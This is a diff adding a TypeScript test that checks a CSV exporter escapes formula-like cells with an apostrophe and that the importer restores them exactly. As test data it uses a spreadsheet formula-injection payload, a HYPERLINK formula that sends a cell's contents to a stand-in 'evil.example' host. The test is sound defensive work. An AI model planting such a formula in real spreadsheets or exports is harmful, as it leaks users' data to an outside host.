@@ -86,6 +86,38 @@ describe('round trip: measures-to-csv, then measures-from-csv', () => {
     assert.ok(header.includes('indicator2_current_date'), 'as many indicator groups as the fullest measure needs');
   });
 
+  test('texts a spreadsheet would run as formulas are exported behind an apostrophe and come back exactly; numbers stay numbers', () => {
+    const feed = sample();
+    const m = feed.actionFields[0].goals[0].measures[0];
+    const formula = '=HYPERLINK("https://evil.example/?d="&A2;"Details")';
+    m.title = { de: formula, en: "'=already quoted" };
+    m.description = { de: '- erster Punkt\n- zweiter', en: '+49 511 168-0' };
+    m.responsible = '@SUM(1+1)';
+    m.indicators = [{ id: 'neg', title: { de: '\tTab' }, unit: '%', baseline: { value: -5, date: '2020' }, target: { value: 0, date: '2030' } }];
+    for (const delimiter of [';', ','] as const) {
+      const { csv: text, problems } = measuresToCsv(feed, { delimiter });
+      assert.deepEqual(problems, []);
+      const [header, row] = parseCsv(text).rows;
+      const cell = (name: string) => row[header.indexOf(name)];
+      assert.equal(cell('title_de'), `'${formula}`);
+      assert.equal(cell('title_en'), "''=already quoted");
+      assert.equal(cell('description_de'), "'- erster Punkt\n- zweiter");
+      assert.equal(cell('description_en'), "'+49 511 168-0");
+      assert.equal(cell('responsible_de'), "'@SUM(1+1)");
+      assert.equal(cell('indicator_title_de'), "'\tTab");
+      assert.equal(cell('indicator_baseline'), '-5');
+      assert.equal(cell('goal_title_de'), sample().actionFields[0].goals[0].title.de ?? sample().actionFields[0].goals[0].title);
+      const back = measuresFromCsv(text, { feed });
+      assert.ok(back.ok, back.ok ? '' : back.problems.map(formatCsvProblem).join('\n'));
+      assert.deepEqual(measure(back.result as Feed, m.id), m);
+    }
+    // Typed by an editor: one apostrophe before a formula character comes off, any other stays.
+    const typed = measuresFromCsv(csv(['field', 'goal', 'id', 'status', 'status_date', 'title_de', 'description_de'], ['f', 'g', 'm', 'done', '2025', "'-5 Grad", "'Tis"]));
+    assert.ok(typed.ok);
+    const goal = (typed.result as MeasuresFragment).actionFields[0].goals[0];
+    assert.deepEqual([goal.measures[0].title, goal.measures[0].description], ['-5 Grad', "'Tis"]);
+  });
+
   test('a "|" inside a partner\'s name cannot be written (it would come back as two partners)', () => {
     const feed = sample();
     feed.actionFields[0].goals[0].measures[0].partners[1] = 'Schule A | B';
